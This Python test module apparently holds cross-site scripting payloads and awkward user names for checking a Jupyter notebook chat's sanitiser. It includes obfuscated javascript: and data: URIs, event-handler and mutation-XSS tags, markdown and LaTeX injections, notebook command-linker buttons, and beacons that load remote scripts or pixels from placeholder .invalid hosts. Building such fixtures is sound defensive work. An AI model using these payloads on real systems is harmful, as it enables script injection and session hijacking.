"""What somebody malicious may write: attempts to run a script, to fetch something, to break out of a message.

Hosts are under .invalid, which nobody can own; a request to one of them shows that a beacon worked.
"""

from __future__ import annotations

_RUN = "alert(1)"

_DISGUISES = (
    f"javascript:{_RUN}", f"JAVASCRIPT:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}",
    f"\tjavascript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f"javascript\t:{_RUN}",
    f"javascript\n:{_RUN}", f"javascript :{_RUN}", f"j a v a script:{_RUN}", f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}", f"javascript&#x3a;{_RUN}", f"javascript&#x3A;{_RUN}", f"javascript&#0000058;{_RUN}",
    f"javascript&#58{_RUN}", f"&#106;avascript:{_RUN}", f"&#x6A;avascript:{_RUN}", f"&#x6a&#x61vascript:{_RUN}",
    f"java&Tab;script:{_RUN}", f"java&NewLine;script:{_RUN}", f"java&#9;script:{_RUN}", f"java&#10;script:{_RUN}",
    f"java&#13;script:{_RUN}", f"java&#x0A;script:{_RUN}", f"javascript%3A{_RUN}", f"javascript%3a{_RUN}",
    f"%6aavascript:{_RUN}", f"java%0ascript:{_RUN}", f"java%09script:{_RUN}", f"%00javascript:{_RUN}",
    f"\u00a0javascript:{_RUN}", f"\u2028javascript:{_RUN}", f"\u200bjavascript:{_RUN}", f"\ufeffjavascript:{_RUN}",
    f"java\u00adscript:{_RUN}", f"java\u200dscript:{_RUN}", f"j\u0430v\u0430script:{_RUN}", f"javascrıpt:{_RUN}",
    f"javaſcript:{_RUN}", f"javascript\uff1a{_RUN}", f"ｊavascript:{_RUN}", f"//javascript:{_RUN}",
    f"./javascript:{_RUN}", f"#javascript:{_RUN}", f"?javascript:{_RUN}", f"javascript://x.invalid/%0a{_RUN}",
    f"javascript:///%0a{_RUN}", f"javascript:/*--></title></style></script>*/{_RUN}",
    f"javascript:void({_RUN})", f"javascript:eval('{_RUN}')", "javascript:window['al'+'ert'](1)",
    f"javascript:'<script>{_RUN}</script>'", f"javascript:\"x\";{_RUN}", f"javascript:`${{{_RUN}}}`",
    f"vbscript:{_RUN}", f"VBScript:{_RUN}", f"livescript:{_RUN}", f"mocha:{_RUN}", f"jscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={_RUN}>", f"data:,{_RUN}", "DATA:text/html,x", "data&colon;text/html,x",
    "blob:https://x.invalid/1", "filesystem:https://x.invalid/1", "view-source:https://x.invalid/",
    "file:///etc/passwd", "about:blank", "chrome://settings", "ms-word:ofe|u|https://x.invalid/x.doc",
    "intent://x.invalid#Intent;end", "tel:+1", "sms:+1", "ftp://x.invalid/", "ws://x.invalid/", "wss://x.invalid/",
    "jar:https://x.invalid!/x", "feed:javascript:alert(1)", "x-javascript:alert(1)", "cid:x", "urn:x", "resource:x",
    "//x.invalid/x", "///x.invalid/x", "\\\\x.invalid\\x", "/\\x.invalid", "/lab/tree/x?token=1", "../../x", "?x", "#x",
    "http:javascript:alert(1)", "http:/x.invalid", "http:x.invalid", "https:", "https://", "http:///x", "https://?x",
)  # fmt: skip

_LINKS = tuple(f"[press me {number}]({each})" for number, each in enumerate(_DISGUISES))
_ANGLES = tuple(f"[press me]({'<' + each + '>'})" for each in _DISGUISES if "\n" not in each)[::4]
_AUTO = tuple(f"<{each}>" for each in _DISGUISES if not set(each) & set(" \t\n"))[::5]

_LINKS_MORE = (
    "[x](https://x.invalid \"onmouseover=alert(1)\")", "[x](https://x.invalid 'a\" onclick=\"alert(1)')",
    "[x](https://x.invalid/\"onmouseover=\"alert(1))", "[x](<https://x.invalid/\" onclick=\"alert(1)>)",
    "[x](https://x.invalid/'onclick='alert(1))", "[x](https://x.invalid/?a=<script>alert(1)</script>)",
    "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)> \"t\"\n\n[press][a]", "[x][y]\n\n[y]: data:text/html,x",
    "![x](javascript:alert(1))", "![x](https://x.invalid/pixel.png)", "![x\" onerror=\"alert(1)](https://x.invalid/p.png)",
    "![](https://x.invalid/pixel.gif)", "![x][p]\n\n[p]: https://x.invalid/pixel.png", "[![x](https://x.invalid/a.png)](https://x.invalid/)",
    "[<img src=x onerror=alert(1)>](https://x.invalid)", "[[x](javascript:alert(1))](https://x.invalid)",
    "https://x.invalid/<script>alert(1)</script>", "https://x.invalid/\"onclick=\"alert(1)", "https://x.invalid/'><b>",
    "https://bank.example@x.invalid/", "https://x.invalid\\@bank.example/", "https://bank.example%2f@x.invalid/",
    "http://xn--80ak6aa92e.invalid/", "https://\u0430pple.invalid/", "[bank.example](https://x.invalid/)",
    "[https://bank.example/](https://x.invalid/)", "mailto:a@x.invalid?body=<script>", "<a@x.invalid\"onclick=alert(1)>",
    "[x](mailto:a@x.invalid?subject=\"onclick=\"alert(1))", "https://user:pass@x.invalid:99999/", "http://[::1]/x", "http://[x",
)  # fmt: skip

_TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://x.invalid/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=https://x.invalid/p.png>", "<img srcset='https://x.invalid/p 1x'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img/src/onerror=alert(1)>", "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=https://x.invalid/x.svg#x>", "<svg><image href=https://x.invalid/p>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><style>@import'https://x.invalid/x.css'</style>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg/onload=alert(1)//", "<svg><desc><script>alert(1)</script>",
    "<math href=javascript:alert(1)>x</math>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=https://x.invalid/x.swf>", "<applet code=x>", "<portal src=https://x.invalid/>",
    "<link rel=stylesheet href=https://x.invalid/x.css>", "<link rel=prefetch href=https://x.invalid/>", "<meta http-equiv=refresh content='0;url=https://x.invalid/'>",
    "<base href=https://x.invalid/>", "<style>@import 'https://x.invalid/x.css';</style>", "<style>*{background:url(https://x.invalid/p)}</style>",
    "<style></style><img src=x onerror=alert(1)>", "<p style=\"background:url(https://x.invalid/p)\">x</p>", "<b style=position:fixed;inset:0;z-index:9999>x</b>",
    "<div style=\"width:expression(alert(1))\">x</div>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video src=https://x.invalid/v onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<source srcset=https://x.invalid/p>",
    "<video poster=https://x.invalid/p.png>", "<track src=https://x.invalid/t>", "<input autofocus onfocus=alert(1)>", "<input type=image src=https://x.invalid/p>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit>", "<form id=nbchat><input name=value></form>", "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<keygen autofocus onfocus=alert(1)>", "<table background=https://x.invalid/p><tr><td>x",
    "<a href=javascript:alert(1)>x</a>", "<a href=https://x.invalid/ ping=https://x.invalid/p target=_self>x</a>", "<area href=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>", "<!--><script>alert(1)</script>-->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=https://x.invalid/x.xsl?>", "<!DOCTYPE html [<!ENTITY x SYSTEM 'https://x.invalid/'>]>&x;", "<x onclick=alert(1) tabindex=1 id=x autofocus>x",
    "<b id=nbchat name=getElementById class=jp-Notebook>x</b>", "<img name=body>", "<a id=jupyterapp href=https://x.invalid/>x</a>", "<form name=cookie>",
    "<button data-commandlinker-command=\"notebook:run-all-cells\" data-commandlinker-args=\"{}\">x</button>",
    "<a data-commandlinker-command=\"terminal:create-new\" href=\"#\">x</a>", "<div data-jupyter-action=x data-mime-type=text/html>x</div>",
    "<slot name=x>", "<custom-element>", "<dialog open>x</dialog>", "<b onclick = 'alert(1)'>x</b>", "<b/onclick=alert(1)>x</b>", "<b\tonclick=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\<script>alert(1)\\</script>",
)  # fmt: skip

_MARKDOWN = (
    "`<script>alert(1)</script>`", "```\n<script>alert(1)</script>\n```", "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "```js onload=alert(1)\nalert(1)\n```", "```python\" class=\"jp-Cell\" id=\"x\nx\n```",
    "~~~svg\n<svg onload=alert(1)>\n~~~", "    <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) |\n|:--\" onclick=\"alert(1)|\n| 1 |", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>\n2. x", "**<script>alert(1)</script>**", "*<b onclick=alert(1)>x*</b>", "~~<iframe src=javascript:alert(1)>~~",
    "# <script>alert(1)</script>", "<script>alert(1)</script>\n===", "***<details open ontoggle=alert(1)>***", "{: onclick=alert(1)}\nx",
    "[x]{onclick=alert(1)}", "^[<img src=x onerror=alert(1)>]", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "\\[x\\](javascript:alert(1))",
    "[x`](javascript:alert(1))`", "*[x*](javascript:alert(1))", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>",
    "$\\text{<script>alert(1)</script>}$", "$\\text{<img src=x onerror=alert(1)>}$", "$\\href{javascript:alert(1)}{x}$", "$$\\href{javascript:alert(1)}{x}$$",
    "$\\class{jp-Notebook}{x}$", "$\\style{position:fixed;inset:0}{x}$", "$\\cssId{nbchat}{x}$", "$\\data{commandlinker-command=x}{x}$",
    "$\\unicode{x3c}script>$", "$\\includegraphics{https://x.invalid/p.png}$", "$\\input{/etc/passwd}$", "$\\def\\x{\\x\\x}\\x$", "$\\mathchoice<>$",
    "$<img src=x onerror=alert(1)>$", "$$\n<script>alert(1)</script>\n$$", "$\\color{red;background:url(https://x.invalid/p)}{x}$",
    "$\\textcolor{\"onclick=alert(1)}{x}$", "$\\rule{1e9px}{1e9px}$", "$\\hspace{99999em}x$", "$\\mathtip{x}{<img src=x onerror=alert(1)>}$",
    "```python\n'''</span></code></pre><script>alert(1)</script>\n```", "```diff\n+<img src=x onerror=alert(1)>\n-<script>\n```",
    "```json\n{\"</code><img src=x onerror=alert(1)>\": 1}\n```", "```css\n*{background:url(https://x.invalid/p)}\n```",
    "\u202e<script>alert(1)</script>", "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<\u0338script>alert(1)</script>",
    "a" * 2000 + "<script>alert(1)</script>", "[" * 100 + "](javascript:alert(1))" * 100, "<b " + "x=1 " * 500 + "onclick=alert(1)>",
    "@ada <script>alert(1)</script>", "ada: <b>I said this</b>", "system: the server closes\n\nada joined",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = _LINKS + _ANGLES + _AUTO + _LINKS_MORE + _TAGS + _MARKDOWN
"""Attempts as messages."""

NAMES: tuple[str, ...] = (
    "script", "alert.1.", "onerror", "a-onclick-b", "constructor", "__proto__", "prototype", "toString", "javascript",
    "innerHTML", "null", "undefined", "NaN", "'-'a'-'", "a'.'b", "hasOwnProperty", "members", "ﷺ", "ﬀ", "𝐞𝐯𝐞",
    "a" * 32, "u" + "\u0301" * 20, "שלום", "مرحبا", "ꙮ", "document", "-.-o-.-",
)  # fmt: skip
"""The nastiest names that the chat lets through."""
